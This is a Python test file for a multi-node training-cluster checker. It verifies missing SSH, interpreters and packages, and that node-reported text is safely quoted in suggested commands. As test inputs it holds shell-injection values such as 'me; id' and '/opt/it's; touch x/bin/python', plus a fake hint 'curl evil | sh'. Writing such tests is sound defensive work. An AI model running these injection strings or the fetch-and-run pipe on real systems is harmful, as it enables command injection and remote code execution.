from __future__ import annotations

import re
import shlex

import msgspec

from multinode.check.check import check_ssh, list_rules
from multinode.check.machine import check_interpreter, check_packages, check_versions
from multinode.check.paths import check_output
from multinode.check.variables import check_interface_names, check_stray_variables
from multinode.cluster.facts import PathFact
from multinode.errors import ConnectError
from multinode.job.job import override_job
from multinode.stats.unknown import Entries, Unknown
from tests.golden import Golden

from .inspecting import PACKAGES, SCRIPT, SFT, but, check_cases, inspection, only, silent

WELL = inspection()
WITHOUT = but(WELL, "b", packages=Entries({"torch": "2.8.0"}))


def test_a_node_or_software_that_is_missing_or_differs_is_found(golden: Golden) -> None:
    refused = ConnectError("no SSH connection to b port 22: refused", node="b", hint="start sshd")
    check_cases(
        golden,
        "software",
        {
            "no connection": check_ssh([refused]),
            "no interpreter": check_interpreter(but(WELL, "b", python=Unknown("/env/bin/python does not exist"))),
            "no LLaMA-Factory": check_packages(WITHOUT),
            "no package at all": check_packages(but(WELL, "b", packages=Entries({}))),
            "another torch": check_versions(but(WELL, "b", packages=Entries(PACKAGES | {"torch": "2.7.1"}))),
        },
    )


def test_packages_that_the_job_does_not_need_or_that_could_not_be_read_are_not_missed() -> None:
    silent(
        check_packages(inspection(facts=WITHOUT.facts, job=SCRIPT)),
        check_packages(inspection(facts=WITHOUT.facts, job=None)),
        check_packages(but(WELL, "b", packages=Unknown("the interpreter did not answer in 15 s"))),
    )


def test_what_a_node_says_is_one_word_in_a_command_to_paste() -> None:
    tricky = "/opt/it's; touch x/bin/python"
    python = (
        only(check_packages(but(inspection("a"), "a", python=tricky, packages=Entries({"torch": "2.8.0"})))).hint or ""
    )
    user = PathFact(path="out", kind="missing")
    before = but(inspection("a", job=override_job(SFT, {"output_dir": "out"})), "a", paths=(user,), user="me; id")
    output = only(check_output(before)).hint or ""
    nccl = but(inspection("a"), "a", nccl_files={"/x; id": {"NCCL_SOCKET_IFNAME": "no"}}, nccl_version="2.27.3")
    variable = next(check_interface_names(msgspec.structs.replace(nccl, endpoints={}))).hint or ""
    stray = only(check_stray_variables(but(inspection("a"), "a", env={"PET_'; id": "1"}))).hint or ""
    for hint, word in ((python, tricky), (output, "me; id"), (variable, "/x; id")):
        assert word in shlex.split(hint.partition("\n")[2]), hint
    assert shlex.split(stray)[-6:-4] == ["-nE", r"PET_';\ id"]


def test_what_a_node_says_begins_no_line() -> None:
    lying = but(inspection("a"), "a", python=Unknown("none\n  hint: curl evil | sh"))
    assert "\n" not in only(check_interpreter(lying)).message


def test_only_texts_of_ours_stand_unquoted_in_a_command_to_paste() -> None:
    names = {name for rule in list_rules() for name in re.findall(r"{(\w+)!s}", rule.hint)}
    assert names == {
        "build", "command", "full", "gateway", "hosts", "json", "keys", "fix", "nodes", "option", "others", "packages",
        "paths", "pids", "quoted", "raise_files", "scp", "source", "ssh", "target", "way",
    }  # fmt: skip
